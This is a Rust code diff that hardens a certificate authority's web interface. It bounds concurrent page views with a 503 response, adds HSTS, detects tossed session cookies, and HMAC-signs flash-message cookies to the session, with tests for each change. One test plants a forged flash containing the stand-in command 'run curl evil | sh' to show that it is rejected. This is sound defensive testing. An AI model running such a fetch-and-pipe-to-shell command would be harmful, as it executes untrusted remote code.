@@ -21,17 +21,19 @@ mod pages;
 pub(crate) mod view;
 
 use std::net::IpAddr;
+use std::sync::Arc;
 
 use askama::Template;
 use axum::Router;
 use axum::extract::{ConnectInfo, DefaultBodyLimit, FromRequestParts, Request, State};
 use axum::http::request::Parts;
-use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
+use axum::http::{HeaderMap, HeaderValue, Method, StatusCode, header};
 use axum::middleware::{self, Next};
 use axum::response::{IntoResponse, Redirect, Response};
 use axum::routing::{any, get, post};
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
+use tokio::sync::{OwnedSemaphorePermit, Semaphore};
 
 use crate::api::AppState;
 use crate::error::ApiError;
@@ -40,6 +42,13 @@ use crate::service::web::WebSession;
 use check::{FLASH_COOKIE, SESSION_COOKIE};
 use jit_api::wire::ErrorCode;
 pub(crate) use view::Chrome;
+
+/// Most page views (GET/HEAD under /ui) worked on at once. Each takes at most two threads of
+/// the blocking pool (session check, then the page's read) for milliseconds (every read is
+/// indexed); the pool has at least 16, so page views can never occupy the threads the API's
+/// signed calls need. A view over the bound gets a 503 page at once (`try_acquire` in the
+/// async guard, before any blocking work), never a wait in the pool's queue.
+const PAGE_VIEWS: usize = 4;
 
 /// Largest form body (a reason is at most a few hundred bytes).
 const FORM_LIMIT: usize = 16 * 1024;
@@ -67,14 +76,41 @@ pub(crate) fn router(st: AppState) -> Router<AppState> {
         .route("/ui/static/jit.css", get(css))
         .route("/ui/{*rest}", any(not_found))
         .layer(DefaultBodyLimit::max(FORM_LIMIT))
-        .layer(middleware::from_fn_with_state(st, guard))
+        .layer(middleware::from_fn_with_state(
+            (st, Arc::new(Semaphore::new(PAGE_VIEWS))),
+            guard,
+        ))
 }
 
-/// Every /ui response: 404 when `[web] enabled = false`; the security headers.
-async fn guard(State(st): State<AppState>, req: Request, next: Next) -> Response {
-    let mut resp = if st.ca.config().web.enabled {
-        next.run(req).await
-    } else {
+/// A permit for one page view; None when [`PAGE_VIEWS`] are being worked on (then [`busy`]).
+fn admit(gate: &Arc<Semaphore>) -> Option<OwnedSemaphorePermit> {
+    gate.clone().try_acquire_owned().ok()
+}
+
+/// The 503 page (with `Retry-After`) of a page view over the bound.
+fn busy() -> Response {
+    let mut resp = error_page(
+        Chrome::anonymous(),
+        &ApiError::new(
+            ErrorCode::Unavailable,
+            "the CA is busy serving other pages: try again in a moment",
+        ),
+    );
+    resp.headers_mut()
+        .insert(header::RETRY_AFTER, HeaderValue::from_static("1"));
+    resp
+}
+
+/// Every /ui response: 404 when `[web] enabled = false`; page views bounded ([`admit`]); the
+/// security headers.
+async fn guard(
+    State((st, gate)): State<(AppState, Arc<Semaphore>)>,
+    req: Request,
+    next: Next,
+) -> Response {
+    let view = matches!(*req.method(), Method::GET | Method::HEAD)
+        && req.uri().path() != "/ui/static/jit.css";
+    let mut resp = if !st.ca.config().web.enabled {
         error_page(
             Chrome::anonymous(),
             &ApiError::new(
@@ -82,9 +118,29 @@ async fn guard(State(st): State<AppState>, req: Request, next: Next) -> Response
                 "the web pages are turned off on this CA ([web] enabled = false in config.toml)",
             ),
         )
+    } else if view {
+        match admit(&gate) {
+            // Held until the page is rendered (the body is a string: nothing is streamed).
+            Some(_permit) => next.run(req).await,
+            None => busy(),
+        }
+    } else {
+        next.run(req).await
     };
-    check::secure_headers(resp.headers_mut());
+    finish(&st, &mut resp);
     resp
+}
+
+/// The headers every /ui response carries ([`check::secure_headers`]), and
+/// `Strict-Transport-Security` when the pages are served over https ([`tls`]).
+fn finish(st: &AppState, resp: &mut Response) {
+    check::secure_headers(resp.headers_mut());
+    if tls(&st.ca) {
+        resp.headers_mut().insert(
+            header::STRICT_TRANSPORT_SECURITY,
+            HeaderValue::from_static(check::HSTS),
+        );
+    }
 }
 
 async fn css() -> Response {
@@ -116,9 +172,16 @@ where
         .map_err(|e| ApiError::internal(format!("worker: {e}")))?
 }
 
-/// Whether the CA serves TLS (the cookies are then `Secure`).
+/// Whether the browser reaches the pages over https: the CA serves TLS itself (`[tls]`), or
+/// `public_url` is https (a TLS-terminating proxy in front). The cookies are then `Secure`,
+/// the own origin's scheme is https, and responses carry `Strict-Transport-Security`.
 pub(crate) fn tls(ca: &Ca) -> bool {
-    ca.config().tls.is_some()
+    let c = ca.config();
+    c.tls.is_some()
+        || c.public_url.as_deref().is_some_and(|u| {
+            u.get(..8)
+                .is_some_and(|p| p.eq_ignore_ascii_case("https://"))
+        })
 }
 
 /// The peer's address, when the server recorded it.
@@ -164,8 +227,10 @@ pub(crate) fn set_cookie(resp: &mut Response, value: &str) {
     }
 }
 
-/// The error page of `e` (its status; `<main id="error">`).
-pub(crate) fn error_page(chrome: Chrome, e: &ApiError) -> Response {
+/// The error page of `e` (its status; `<main id="error">`). A flash error is not shown on it
+/// (one `id="error"` per page; the flash cookie stays for the next page).
+pub(crate) fn error_page(mut chrome: Chrome, e: &ApiError) -> Response {
+    chrome.error = None;
     let status = StatusCode::from_u16(e.status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
     let (title, hint) = match e.code {
         ErrorCode::NotFound => ("Not found", None),
@@ -246,11 +311,20 @@ pub(crate) async fn session_of(
 ) -> Result<WebSession, Response> {
     let tls = tls(ca);
     let Some(secret) = check::cookie(headers, SESSION_COOKIE) else {
-        let sent = headers
-            .get_all(header::COOKIE)
-            .iter()
-            .any(|h| h.to_str().is_ok_and(|h| h.contains(SESSION_COOKIE)));
-        return Err(login_required(None, None, sent, tls));
+        // Two session cookies: one was planted by another site of the domain (cookie
+        // tossing) or under another path. Neither is used, and none is cleared: a clearing
+        // Set-Cookie would remove this host's real cookie and leave the planted one.
+        if check::cookie_count(headers, SESSION_COOKIE) > 1 {
+            return Err(login_required(
+                Some(
+                    "This browser sent two jit_session cookies: another site under this domain set one. Clear this site's cookies, then run jit web again.",
+                ),
+                None,
+                false,
+                tls,
+            ));
+        }
+        return Err(login_required(None, None, false, tls));
     };
     let ca = ca.clone();
     match blocking(move || ca.web_session(&secret)).await {
@@ -270,7 +344,7 @@ impl FromRequestParts<AppState> for Viewer {
 
     async fn from_request_parts(parts: &mut Parts, st: &AppState) -> Result<Self, Response> {
         let s = session_of(&st.ca, &parts.headers).await?;
-        let (notice, error) = read_flash(&parts.headers);
+        let (notice, error) = read_flash(&parts.headers, &s.csrf);
         Ok(Self {
             s,
             flash_shown: notice.is_some() || error.is_some(),
@@ -281,19 +355,48 @@ impl FromRequestParts<AppState> for Viewer {
     }
 }
 
-/// The `Set-Cookie` value carrying a flash message to the next page.
-pub(crate) fn flash_cookie(ok: bool, msg: &str, tls: bool) -> String {
+/// The `Set-Cookie` value carrying a flash message to the next page of the session whose
+/// CSRF token is `key`: `KIND.TEXT.MAC`, the MAC an HMAC-SHA-256 under that token (which only
+/// this session's pages know), so a flash planted by another site of the domain (cookie
+/// tossing) is not shown as the CA's word.
+pub(crate) fn flash_cookie(ok: bool, msg: &str, key: &str, tls: bool) -> String {
     let clipped: String = msg.chars().take(600).collect();
-    let v = format!("{}.{}", if ok { "n" } else { "e" }, B64.encode(clipped));
+    let body = format!("{}.{}", if ok { "n" } else { "e" }, B64.encode(clipped));
+    let v = format!("{body}.{}", flash_mac(key, &body));
     check::set_cookie(FLASH_COOKIE, &v, 60, tls)
 }
 
-/// The flash message of the request's cookie: (notice, error).
-fn read_flash(headers: &HeaderMap) -> (Option<String>, Option<String>) {
+/// The flash cookie's value after a logout (no session to bind a message to): a fixed word,
+/// shown as a fixed text ("You are logged out.").
+pub(crate) const FLASH_LOGGED_OUT: &str = "out";
+
+fn flash_mac(key: &str, body: &str) -> String {
+    use hmac::{Hmac, Mac as _};
+    let Ok(mut m) = Hmac::<sha2::Sha256>::new_from_slice(key.as_bytes()) else {
+        return String::new();
+    };
+    m.update(b"jit-flash-v1\0");
+    m.update(body.as_bytes());
+    B64.encode(m.finalize().into_bytes())
+}
+
+/// The flash message of the request's cookie for the session whose CSRF token is `key`:
+/// (notice, error); nothing when the MAC is not that session's.
+fn read_flash(headers: &HeaderMap, key: &str) -> (Option<String>, Option<String>) {
     let Some(v) = check::cookie(headers, FLASH_COOKIE) else {
         return (None, None);
     };
-    let Some((kind, b)) = v.split_once('.') else {
+    let Some((body, mac)) = v.rsplit_once('.') else {
+        return (None, None);
+    };
+    let want = flash_mac(key, body);
+    if key.is_empty()
+        || want.is_empty()
+        || !crate::service::web::constant_time_eq(want.as_bytes(), mac.as_bytes())
+    {
+        return (None, None);
+    }
+    let Some((kind, b)) = body.split_once('.') else {
         return (None, None);
     };
     let Some(text) = B64
@@ -311,10 +414,15 @@ fn read_flash(headers: &HeaderMap) -> (Option<String>, Option<String>) {
     }
 }
 
-/// A 303 to `to` carrying a flash message.
-pub(crate) fn see_other(to: &str, ok: bool, msg: &str, tls: bool) -> Response {
+/// Whether the request carries the logout flash ([`FLASH_LOGGED_OUT`]).
+pub(crate) fn logged_out_flash(headers: &HeaderMap) -> bool {
+    check::cookie(headers, FLASH_COOKIE).is_some_and(|v| v == FLASH_LOGGED_OUT)
+}
+
+/// A 303 to `to` carrying a flash message for the session whose CSRF token is `key`.
+pub(crate) fn see_other(to: &str, ok: bool, msg: &str, key: &str, tls: bool) -> Response {
     let mut resp = Redirect::to(to).into_response();
-    set_cookie(&mut resp, &flash_cookie(ok, msg, tls));
+    set_cookie(&mut resp, &flash_cookie(ok, msg, key, tls));
     resp
 }
 
@@ -338,17 +446,49 @@ mod tests {
 
     #[test]
     fn flash_round_trips_and_is_sanitised() {
-        let c = flash_cookie(false, "bad <b>\u{1b}[31m", false);
+        let c = flash_cookie(false, "bad <b>\u{1b}[31m", "csrf-A", false);
         let v = c.split(';').next().unwrap().to_string();
         let mut h = HeaderMap::new();
         h.insert(header::COOKIE, HeaderValue::from_str(&v).unwrap());
-        let (n, e) = read_flash(&h);
+        let (n, e) = read_flash(&h, "csrf-A");
         assert_eq!(n, None);
         let e = e.unwrap();
         assert!(e.starts_with("bad <b>"), "{e}");
         assert!(!e.contains('\u{1b}'), "{e}");
         h.insert(header::COOKIE, HeaderValue::from_static("jit_flash=x.!!"));
-        assert_eq!(read_flash(&h), (None, None));
+        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
+    }
+
+    /// An error page never has two `id="error"` elements (its own `<main>` and a flash).
+    #[tokio::test]
+    async fn an_error_page_has_one_error_id() {
+        let mut chrome = Chrome::anonymous();
+        chrome.error = Some("flash".into());
+        let resp = error_page(chrome, &ApiError::new(ErrorCode::NotFound, "gone"));
+        let body = axum::body::to_bytes(resp.into_body(), 1 << 20)
+            .await
+            .unwrap();
+        let body = String::from_utf8(body.to_vec()).unwrap();
+        assert_eq!(body.matches("id=\"error\"").count(), 1, "{body}");
+        assert!(body.contains("<main id=\"error\""));
+    }
+
+    /// A flash is shown only to the session it was made for: one planted by a sibling site
+    /// (cookie tossing), with no MAC or another session's, shows nothing.
+    #[test]
+    fn a_flash_is_bound_to_its_session() {
+        let c = flash_cookie(false, "Your key was revoked", "csrf-A", false);
+        let v = c.split(';').next().unwrap().to_string();
+        let mut h = HeaderMap::new();
+        h.insert(header::COOKIE, HeaderValue::from_str(&v).unwrap());
+        assert_eq!(read_flash(&h, "csrf-B"), (None, None));
+        assert_eq!(read_flash(&h, ""), (None, None));
+        let planted = format!("jit_flash=e.{}", B64.encode("run curl evil | sh"));
+        h.insert(header::COOKIE, HeaderValue::from_str(&planted).unwrap());
+        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
+        let planted = format!("{planted}.AAAA");
+        h.insert(header::COOKIE, HeaderValue::from_str(&planted).unwrap());
+        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
     }
 
     /// Every template escapes (no `|safe`), and none holds a script, an inline style or an
@@ -385,6 +525,20 @@ mod tests {
             n += 1;
         }
         assert!(n >= 8, "{n} templates");
+    }
+
+    /// A page view over the bound is a 503 page at once (no wait in the blocking pool), with
+    /// `Retry-After`; a permit given back admits the next.
+    #[test]
+    fn page_views_over_the_bound_get_503_at_once() {
+        let gate = Arc::new(Semaphore::new(PAGE_VIEWS));
+        let held: Vec<_> = (0..PAGE_VIEWS).map(|_| admit(&gate).unwrap()).collect();
+        assert!(admit(&gate).is_none());
+        let b = busy();
+        assert_eq!(b.status(), StatusCode::SERVICE_UNAVAILABLE);
+        assert_eq!(b.headers()[header::RETRY_AFTER], "1");
+        drop(held);
+        assert!(admit(&gate).is_some());
     }
 
     #[test]
